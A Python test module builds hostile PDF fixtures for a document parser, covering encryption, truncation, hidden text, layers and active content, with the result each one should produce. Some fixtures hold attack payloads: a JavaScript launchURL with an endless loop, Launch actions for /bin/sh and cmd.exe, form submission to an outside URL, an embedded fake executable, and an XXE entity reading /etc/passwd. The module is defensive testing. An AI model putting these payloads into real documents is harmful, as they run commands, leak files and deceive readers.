"""PDFs of reliability.md section 7, 23 and 27 to 36: locked, active, cut, and figures that are not what one sees."""

from __future__ import annotations

import io
from collections.abc import Callable
from functools import partial

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.hostile.calls import URL
from tests.hostile.entry import BROKEN, READ, UNREAD, Entry
from tests.hostile.pdf_bombs import CATALOG
from tests.hostile.pdf_file import FONT, TEXT, Objects, file, one_page, page, stream, with_update
from tests.hostile.pdf_pages import CMAP_HEAD, mapped
from workers.corpus.figures import written
from workers.corpus.pdf import to_pdf
from workers.corpus.sheet import to_sheet

_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def report() -> bytes:
    """A good report."""
    return to_pdf(to_sheet("2021", written("2021")))


def locked(user: str, strength: int) -> bytes:
    """A page that is encrypted; without a password for its reader it opens to everybody."""
    out = io.BytesIO()
    lock = StandardEncryption(user, ownerPassword="owner", strength=strength)
    canvas = Canvas(out, encrypt=lock, invariant=1)
    canvas.drawString(100, 700, "report 12")
    canvas.save()
    return out.getvalue()


def locked_by(encrypt: bytes) -> bytes:
    """A page that says it is encrypted this way."""
    objects = {1: CATALOG, 2: _PAGES, 3: page(), 4: stream(TEXT), 5: FONT, 7: encrypt}
    return file(objects, b"/Encrypt 7 0 R/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]")


def many_rounds() -> bytes:
    """256-bit encryption (ISO 32000-2, 7.6.4) that asks for a million rounds."""
    keys = b"/O<%s>/U<%s>/OE<%s>/UE<%s>/Perms<%s>" % (b"11" * 48, b"22" * 48, b"33" * 32, b"44" * 32, b"55" * 16)
    crypt = b"/CF<</StdCF<</CFM/AESV3/AuthEvent/DocOpen/Length 1000000>>>>/StmF/StdCF/StrF/StdCF"
    return locked_by(b"<</Filter/Standard/V 5/R 6/Length 1000000/Rounds 1000000/P -1%s%s>>" % (keys, crypt))


def acting(action: bytes, objects: Objects | None = None) -> bytes:
    """A file that does something when it is opened, when its page is, and when a link is followed."""
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 10 0 R/AA<</PO 10 0 R/E 10 0 R>>>>"
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R/AA<</WC 10 0 R>>/AcroForm 12 0 R>>"
    made = one_page(
        TEXT, {1: catalog, 10: action, 11: link, 12: b"null"} | (objects or {}), more=b"/Annots[11 0 R]/AA<</O 10 0 R>>"
    )
    return made.replace(b"@URL@", URL.encode())


def with_form(xml: bytes) -> bytes:
    """An XFA form with this XML."""
    return acting(
        b"<</S/URI/URI(@URL@)>>", {12: b"<</Fields[]/XFA 13 0 R>>", 13: stream(xml.replace(b"@URL@", URL.encode()))}
    )


def cut(share: float) -> bytes:
    """A good report of which so much is there."""
    whole = report()
    return whole[: int(len(whole) * share)]


def linearised() -> bytes:
    """A file that says it may be read from its start, and gives wrong lengths."""
    head = b"<</Linearized 1/L 99999999/H[7 999999999]/O 3/E 5/N 77/T 1>>"
    return file({1: CATALOG, 2: _PAGES, 3: page(), 4: stream(TEXT), 5: FONT, 90: head})


def beside(operators: bytes, objects: Objects | None = None, **parts: bytes) -> bytes:
    """A page that says 12, and something else that is not seen."""
    return one_page(TEXT + operators, objects, **parts)


def mapped_to(target: bytes, text: bytes = b"(33)") -> bytes:
    """Text whose every code stands for this character (UTF-16 in hex)."""
    return mapped(
        stream(CMAP_HEAD + b"1 beginbfrange<00><FF>[%s]endbfrange endcmap" % (b"<%s>" % target * 256)), text=text
    )


def noted(subtype: bytes) -> bytes:
    """A figure in a table's place, with an annotation over it that shows another."""
    look = stream(
        b"1 1 1 rg 0 0 60 20 re f 0 g BT /F 12 Tf 2 5 Td (999) Tj ET",
        b"/Type/XObject/Subtype/Form/BBox[0 0 60 20]/Resources<</Font<</F 5 0 R>>>>",
    )
    note = b"<</Type/Annot/Subtype/%s/Rect[140 695 200 715]/F 4/Contents(999)/AP<</N 11 0 R>>>>" % subtype
    return one_page(TEXT, {10: note, 11: look}, more=b"/Annots[10 0 R]")


def two_versions() -> bytes:
    """First 12, then 13: a viewer shows the second."""
    return with_update(one_page(TEXT), {4: stream(TEXT.replace(b"12", b"13"))})


def layered(default: bytes, content: bytes, resources: bytes, objects: Objects | None = None) -> bytes:
    """A page with a layer; `default` says whether it is shown."""
    catalog = b"<</Type/Catalog/Pages 2 0 R/OCProperties<</OCGs[10 0 R]/D<<%s>>>>>>" % default
    layer = b"<</Type/OCG/Name(layer)>>"
    return one_page(TEXT + content, {1: catalog, 10: layer} | (objects or {}), resources=resources)


_IN_LAYER = b"/OC /L BDC BT /F 12 Tf 100 600 Td (999) Tj ET EMC"
_LAYER = b"/Properties<</L 10 0 R>>"
_LAYER_AND_FORM = _LAYER + b"/XObject<</X 11 0 R>>"
_LOOK = b"/Type/XObject/Subtype/Form%s/BBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>>>"
_PLAIN_FORM = {11: stream(b"BT /F 12 Tf 100 600 Td (999) Tj ET", _LOOK % b"")}
_LAYER_FORM = {11: stream(b"BT /F 12 Tf 100 600 Td (999) Tj ET", _LOOK % b"/OC 10 0 R")}


def _hidden(number: str, name: str, build: Callable[[], bytes]) -> Entry:
    return Entry(number, name, build, problems=("TEXT_HIDDEN",), shown=("report 12",), absent=("999",), quick=True)


def _active(number: str, name: str, action: bytes) -> Entry:
    return Entry(number, name, partial(acting, action), shown=("report 12",), quick=True)


_XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "@URL@"><!ENTITY f SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;&f;</xdp:xdp>'

ENTRIES = (
    Entry(
        "23", "letters that turn the writing direction", partial(mapped_to, b"202E"), shown=("report 12",), quick=True
    ),
    Entry("27a", "locked without a reader's password", partial(locked, "", 40), shown=("report 12",), quick=True),
    Entry("27b", "the same, 128 bits", partial(locked, "", 128), shown=("report 12",), quick=True),
    Entry("27c", "locked with a password", partial(locked, "secret", 128), ends=("ENCRYPTED",), quick=True),
    Entry(
        "27d", "an unknown lock", lambda: locked_by(b"<</Filter/Gouji.Lock/V 9/R 9>>"), ends=("ENCRYPTED",), quick=True
    ),
    Entry("27e", "256 bits and 10^6 rounds", many_rounds, ends=("ENCRYPTED",), quick=True),
    _active("28a", "JavaScript", b"<</S/JavaScript/JS(app.launchURL\\('@URL@'\\); while\\(1\\);)>>"),
    _active("28b", "Launch", b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    _active("28c", "URI", b"<</S/URI/URI(@URL@)>>"),
    _active("28d", "SubmitForm", b"<</S/SubmitForm/F<</FS/URL/F(@URL@)>>/Flags 4>>"),
    _active("28e", "GoToR", b"<</S/GoToR/F<</FS/URL/F(@URL@)>>/D[0/Fit]>>"),
    Entry(
        "28f",
        "embedded file",
        lambda: acting(
            b"<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>",
            {12: b"<</Type/Filespec/F(a.exe)/EF<</F 13 0 R>>>>", 13: stream(b"MZ" * 999)},
        ),
        shown=("report 12",),
        quick=True,
    ),
    Entry(
        "28g",
        "RichMedia",
        lambda: acting(b"<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(@URL@)>>/CT(video/mp4)>>>>>>"),
        shown=("report 12",),
        quick=True,
    ),
    Entry("28h", "XFA with an entity from outside", partial(with_form, _XXE), shown=("report 12",), quick=True),
    Entry(
        "28i",
        "content in a file elsewhere",
        lambda: one_page(stream(b"", b"/F<</FS/URL/F(@URL@)>>").replace(b"@URL@", URL.encode())),
        ends=UNREAD,
        quick=True,
    ),
    *(
        Entry(
            f"29{letter}",
            f"{share:.0%} of a report",
            partial(cut, share),
            ends=("PDF_BROKEN", "OCR_MISSING", READ),
            quick=True,
        )
        for letter, share in zip("abcd", (0.25, 0.5, 0.75, 0.99), strict=True)
    ),
    Entry("29e", "nothing but startxref", lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n", ends=BROKEN, quick=True),
    Entry(
        "29f",
        "1 MB of rubbish before it",
        lambda: b"\x01\x02\xff\xfe" * 250_000 + one_page(TEXT),
        ends=("KIND_UNSUPPORTED",),
        quick=True,
    ),
    Entry(
        "29g",
        "1,000 bytes of rubbish before it",
        lambda: b"\x01\x02\xff\xfe" * 250 + one_page(TEXT),
        shown=("report 12",),
        quick=True,
    ),
    Entry("29h", "a header and no more", lambda: b"%PDF-1.7\n", ends=BROKEN, quick=True),
    Entry("30", "linearised with wrong lengths", linearised, shown=("report 12",), quick=True),
    _hidden("31a", "text off the page", partial(beside, b"BT /F 12 Tf 900 600 Td (999) Tj ET")),
    _hidden("31b", "white text", partial(beside, b"1 g BT /F 12 Tf 100 600 Td (999) Tj ET")),
    _hidden("31c", "text of 0.1 points", partial(beside, b"BT /F .1 Tf 100 600 Td (999) Tj ET")),
    _hidden("31d", "text without ink", partial(beside, b"BT 3 Tr /F 12 Tf 100 600 Td (999) Tj ET")),
    _hidden(
        "31e", "text under a white patch", partial(beside, b"BT /F 12 Tf 100 600 Td (999) Tj ET 1 g 90 590 90 30 re f")
    ),
    _hidden(
        "31f",
        "text that is clear as glass",
        lambda: beside(b"/A gs BT /F 12 Tf 100 600 Td (999) Tj ET", resources=b"/ExtGState<</A<</ca 0/CA 0>>>>"),
    ),
    _hidden(
        "31g",
        "text under a white picture",
        lambda: beside(
            b"BT /F 12 Tf 100 600 Td (999) Tj ET q 90 0 0 30 90 590 cm BI /W 1 /H 1 /BPC 8 /CS /G ID \xff\nEI Q"
        ),
    ),
    Entry(
        "32",
        "a second number over the first",
        lambda: beside(b"BT /F 12 Tf 141 700 Td (85) Tj ET"),
        problems=("TEXT_OVER_TEXT",),
        quick=True,
    ),
    Entry("33", "8 is drawn where 3 is said", partial(mapped_to, b"0033", b"(88)"), shown=("report 12",), quick=True),
    Entry("34a", "a note over a figure", partial(noted, b"FreeText"), shown=("report 12",), quick=True),
    Entry("34b", "a stamp over a figure", partial(noted, b"Stamp"), shown=("report 12",), quick=True),
    Entry("35", "two versions", two_versions, shown=("report 13",), absent=("report 12",), quick=True),
    _hidden("36a", "a layer that is off", partial(layered, b"/OFF[10 0 R]", _IN_LAYER, _LAYER)),
    _hidden("36b", "a layer that is off, since all are", partial(layered, b"/BaseState/OFF", _IN_LAYER, _LAYER)),
    Entry(
        "36c",
        "a form on a layer that is off",
        partial(layered, b"/OFF[10 0 R]", b"/X Do", b"/XObject<</X 11 0 R>>", _LAYER_FORM),
        ends=("LAYERS_HIDDEN",),
        quick=True,
    ),
    _hidden(
        "36e",
        "a form within a layer that is off",
        partial(layered, b"/OFF[10 0 R]", b"/OC /L BDC /X Do EMC", _LAYER_AND_FORM, _PLAIN_FORM),
    ),
    Entry(
        "36d", "a layer that is on", partial(layered, b"", _IN_LAYER, _LAYER), shown=("report 12", "999"), quick=True
    ),
)
